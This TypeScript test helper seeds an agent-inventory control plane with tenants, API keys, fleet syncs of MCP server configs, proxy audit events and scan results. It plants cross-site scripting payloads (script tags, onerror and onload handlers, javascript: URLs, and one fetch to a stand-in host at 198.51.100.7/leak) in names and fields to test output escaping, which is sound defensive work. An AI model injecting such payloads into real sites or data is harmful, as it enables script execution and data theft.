import { loadOsvSource } from '../../libs/advisories/src/index.js';
import { discover } from '../../libs/discovery/src/index.js';
import { buildScanReport } from '../../libs/scan/src/index.js';
import type { RuntimeAuditEvent } from '../../libs/contracts/src/index.js';
import type { TestApp } from '../helpers/app.js';
import { auditEvent } from '../helpers/audit.js';
import { makeScanFixture, OSV_FIXTURES } from '../scans/fixture.js';
import { runCli } from '../helpers/processes.js';

/** Hostile strings planted through fleet sync: each would run script or leave the origin if rendered as markup. */
export const HOSTILE = {
  serverName: '<img src=x onerror="window.__pwned=1;fetch(\'http://198.51.100.7/leak\')">',
  toolName: '<script>window.__pwned=2</script>',
  toolName2: '"><svg onload="window.__pwned=3">',
  url: 'https://evil.example/"><iframe src="javascript:window.__pwned=4"></iframe>',
  arg: "javascript:window.__pwned=5//<a href='http://198.51.100.7/x'>x</a>",
  hostname: '<b onmouseover="window.__pwned=6">host</b>',
} as const;

export interface Seeded {
  origin: string;
  tenant: string;
  adminKey: string;
  viewerKey: string;
  proxyKey: string;
}

export async function call<T>(
  origin: string,
  key: string,
  method: string,
  path: string,
  body?: unknown,
): Promise<T> {
  const response = await fetch(origin + path, {
    method,
    headers: { authorization: `Bearer ${key}`, 'content-type': 'application/json' },
    body: body === undefined ? undefined : JSON.stringify(body),
  });
  const text = await response.text();
  if (!response.ok) throw new Error(`${method} ${path}: ${response.status} ${text}`);
  return (text ? JSON.parse(text) : undefined) as T;
}

/**
 * Seeds a listening control plane the way an operator would: the tenant and its first admin key through the
 * real CLI (`agent-bom tenants create`, `keys create`), everything else through the public API — machine keys,
 * a fleet sync carrying hostile names, proxy and gateway audit events.
 */
export async function seed(t: TestApp, origin: string): Promise<Seeded> {
  const tenant = `console${Date.now().toString(36)}`;
  const env = { ...process.env, DATABASE_URL: t.db.url, LOG_LEVEL: 'warn' };
  const created = await runCli(['tenants', 'create', tenant], env);
  if (created.code !== 0) throw new Error(created.stderr);
  const key = await runCli(
    ['keys', 'create', '--tenant', tenant, '--role', 'admin', '--name', 'console-admin'],
    env,
  );
  if (key.code !== 0) throw new Error(key.stderr);
  const adminKey = key.stdout.trim();
  const mk = async (role: string, name: string) =>
    (await call<{ raw_key: string }>(origin, adminKey, 'POST', '/v1/auth/keys', { role, name })).raw_key;
  const viewerKey = await mk('viewer', 'console-viewer');
  const pushKey = await mk('fleet-push', 'laptops');
  const proxyKey = await mk('proxy', 'proxies');
  const gatewayKey = await mk('gateway', 'gateway');

  // The first sync enrolls the endpoint; its reports then go with its own credential (docs/fleet.md).
  const alice = await call<{ endpoint_credential: string }>(origin, pushKey, 'POST', '/v1/fleet/sync', {
    source_id: 'laptop-alice',
    endpoint: { hostname: 'alice-mbp', os: 'darwin', owner: 'alice', environment: 'prod' },
    agents: [
      {
        name: 'claude-desktop',
        client: 'claude-desktop',
        servers: [
          {
            name: 'filesystem',
            transport: 'stdio',
            command: 'npx',
            args: ['-y', '@modelcontextprotocol/server-filesystem', '/Users/alice'],
            declared_tools: ['read_file', 'write_file'],
            auth_mode: 'env',
            credential_env_names: ['GITHUB_TOKEN'],
            config_path: '/Users/alice/Library/Application Support/Claude/claude_desktop_config.json',
          },
          {
            name: 'linear',
            transport: 'https',
            url: 'https://mcp.linear.app/mcp',
            auth_mode: 'headers',
            credential_header_names: ['Authorization'],
            config_path: '/Users/alice/Library/Application Support/Claude/claude_desktop_config.json',
          },
        ],
      },
    ],
  });
  await call(origin, pushKey, 'POST', '/v1/fleet/sync', {
    source_id: 'laptop-mallory',
    endpoint: { hostname: HOSTILE.hostname, os: 'linux', owner: 'mallory' },
    agents: [
      {
        name: 'cursor',
        client: 'cursor',
        servers: [
          {
            name: HOSTILE.serverName,
            transport: 'stdio',
            command: 'node',
            args: [HOSTILE.arg],
            declared_tools: [HOSTILE.toolName, HOSTILE.toolName2],
            auth_mode: 'none',
            config_path: '/home/mallory/.cursor/mcp.json',
          },
          {
            name: 'linear',
            transport: 'https',
            url: HOSTILE.url,
            auth_mode: 'none',
            config_path: '/home/mallory/.cursor/mcp.json',
          },
        ],
      },
    ],
  });
  const event = (overrides: Partial<RuntimeAuditEvent>) =>
    auditEvent({ trace_id: undefined, argument_fingerprint: undefined, ...overrides });
  await call(origin, proxyKey, 'POST', '/v1/proxy/audit', {
    source_id: 'laptop-alice:proxy',
    events: [
      event({}),
      event({ type: 'tool_call.allowed', tool: 'read_file', rule_id: undefined, reason: undefined }),
    ],
  });
  await call(origin, gatewayKey, 'POST', '/v1/proxy/audit', {
    source_id: 'gateway-0',
    events: [event({ server: 'linear', tool: HOSTILE.toolName, reason: HOSTILE.serverName })],
  });
  // scan results: the scanner library (what `agent-bom scan` runs) on a fixture home, pushed like the CLI does
  const fixture = await makeScanFixture();
  const advisories = (await loadOsvSource(OSV_FIXTURES)).source;
  const found = await discover({
    os: 'linux',
    home: fixture.home,
    projects: [fixture.project],
    claudeCodeProjects: false,
    knownProjects: false,
  });
  const report = await buildScanReport({
    sourceId: 'laptop-alice',
    agents: found.agents,
    projects: [fixture.project],
    advisories,
    advisoryCount: advisories.size,
  });
  await call(origin, alice.endpoint_credential, 'POST', '/v1/results/push', report);
  return { origin, tenant, adminKey, viewerKey, proxyKey };
}
